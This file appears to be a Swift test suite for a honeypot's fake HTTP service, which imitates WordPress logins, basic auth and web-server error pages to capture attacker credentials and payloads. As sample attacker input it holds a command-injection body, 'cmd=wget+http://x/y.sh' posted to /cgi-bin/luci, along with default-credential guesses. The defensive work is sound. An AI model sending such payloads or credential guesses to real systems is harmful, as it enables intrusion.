import DecnetCore
import DecnetServiceKit
import Foundation
import Testing

@testable import DecnetServices

@Suite struct HTTPResponderTests {
    static func responder(_ persona: [String: String]) throws -> HTTPResponder {
        let service = try HTTPService(
            context: ServiceContext(
                decky: "d",
                hostname: "blog.corp.local",
                service: "http",
                persona: persona,
                sink: DiscardingEventSink()
            )
        )
        return HTTPResponder(configuration: service.configuration, port: 80)
    }

    static func request(
        _ method: String,
        _ uri: String,
        headers: [(String, String)] = [],
        body: String = ""
    ) -> HTTPResponder.Request {
        HTTPResponder.Request(method: method, uri: uri, headers: headers.map { ($0.0, $0.1) }, body: Array(body.utf8))
    }

    static func fields(_ events: [(EventID, EventFields)], _ id: EventID) -> [EventField]? {
        events.first { $0.0 == id }?.1.fields
    }

    @Test func wordpressFormAndXMLRPCLoginsAreCaptured() throws {
        let responder = try Self.responder(["fake_app": "wordpress", "users": "editor:Spring2024"])
        let (page, pageEvents) = responder.respond(
            to: Self.request("GET", "/wp-login.php", headers: [("User-Agent", "WPScan v3.8.25")])
        )
        #expect(page.status == 200 && page.body.contains("name=\"loginform\""))
        #expect(Self.fields(pageEvents, .commandInput)?.contains(EventField("user_agent", "WPScan v3.8.25")) == true)

        let (failed, failedEvents) = responder.respond(
            to: Self.request("POST", "/wp-login.php", body: "log=admin&pwd=p%40ss+word&wp-submit=Log+In")
        )
        #expect(failed.body.contains("The password you entered for the username <strong>admin</strong> is incorrect."))
        #expect(Self.fields(failedEvents, .loginFailed)?.contains(EventField("password", "p@ss word")) == true)
        #expect(Self.fields(failedEvents, .payloadReceived) == nil, "a login body is not also a payload")

        let (ok, okEvents) = responder.respond(
            to: Self.request("POST", "/wp-login.php", body: "log=editor&pwd=Spring2024")
        )
        #expect(ok.status == 302)
        #expect(Self.fields(okEvents, .loginSuccess) != nil)

        let xml =
            "<?xml version=\"1.0\"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>admin</string></value></param><param><value><string>123456</string></value></param></params></methodCall>"
        let (fault, xmlEvents) = responder.respond(to: Self.request("POST", "/xmlrpc.php", body: xml))
        #expect(fault.body.contains("Incorrect username or password."))
        #expect(Self.fields(xmlEvents, .loginFailed)?.contains(EventField("password", "123456")) == true)
    }

    @Test func basicAuthIsCapturedOnAnyPath() throws {
        let responder = try Self.responder([:])
        let header = "Basic " + Data("root:calvin".utf8).base64EncodedString()
        let (response, events) = responder.respond(
            to: Self.request("GET", "/manager/html", headers: [("Authorization", header)])
        )
        #expect(response.status == 404)
        #expect(Self.fields(events, .loginFailed)?.contains(EventField("username", "root")) == true)
        #expect(Self.fields(events, .loginFailed)?.contains(EventField("method", "http-basic")) == true)
    }

    @Test func errorPagesFollowTheServerFamily() throws {
        let nginx = try Self.responder(["server_header": "nginx/1.18.0 (Ubuntu)"]).error(404).body
        #expect(
            nginx
                == "<html>\r\n<head><title>404 Not Found</title></head>\r\n<body>\r\n<center><h1>404 Not Found</h1></center>\r\n<hr><center>nginx/1.18.0 (Ubuntu)</center>\r\n</body>\r\n</html>\r\n"
        )
        var asked = Self.request("GET", "/missing")
        asked.headers = [("Host", "blog.corp.local:80")]
        let apache = try Self.responder(["server_header": "Apache/2.4.57 (Debian)"]).error(404, asked).body
        #expect(apache.hasPrefix("<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n"))
        #expect(apache.contains("<address>Apache/2.4.57 (Debian) Server at blog.corp.local Port 80</address>"))
        // Without a Host, Apache names itself (the decky's address); 2.4.66 and later declare HTML 4.01.
        var apacheResponder = try Self.responder(["server_header": "Apache/2.4.71 (Debian)"])
        apacheResponder.serverAddress = "10.0.0.5"
        let modern = apacheResponder.error(400).body
        #expect(
            modern
                == "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\" \"http://www.w3.org/TR/html4/strict.dtd\">\n<html><head>\n<title>400 Bad Request</title>\n</head><body>\n<h1>Bad Request</h1>\n<p>Your browser sent a request that this server could not understand.<br />\n</p>\n<hr>\n<address>Apache/2.4.71 (Debian) Server at 10.0.0.5 Port 80</address>\n</body></html>\n"
        )
        let custom = try Self.responder(["response_code": "403"]).respond(to: Self.request("GET", "/")).0
        #expect(custom.status == 403)
    }

    @Test func bodiesAreRecordedAndOversizedOnesRefused() throws {
        let responder = try Self.responder([:])
        let (_, events) = responder.respond(to: Self.request("POST", "/cgi-bin/luci", body: "cmd=wget+http://x/y.sh"))
        #expect(Self.fields(events, .payloadReceived)?.contains(EventField("kind", "http-body")) == true)
        var big = Self.request("POST", "/upload")
        big.bodyTooLarge = true
        #expect(responder.respond(to: big).0.status == 413)
        #expect(responder.respond(to: Self.request("FOO", "/")).0.status == 405)
        #expect(responder.respond(to: Self.request("PROPFIND", "/")).0.status == 405)
    }

    @Test func formDecodingSurvivesHostileInput() {
        #expect(
            HTTPResponder.form(Array("a=%zz&b=%4&c=%41%42&=x&d".utf8)) == [
                "a": "%zz", "b": "%4", "c": "AB", "": "x", "d": "",
            ]
        )
        #expect(HTTPResponder.form(Array(String(repeating: "&", count: 10_000).utf8)).isEmpty)
        #expect(HTTPResponder.escapeHTML("<script>\"'&") == "&lt;script&gt;&quot;&#039;&amp;")
    }
}
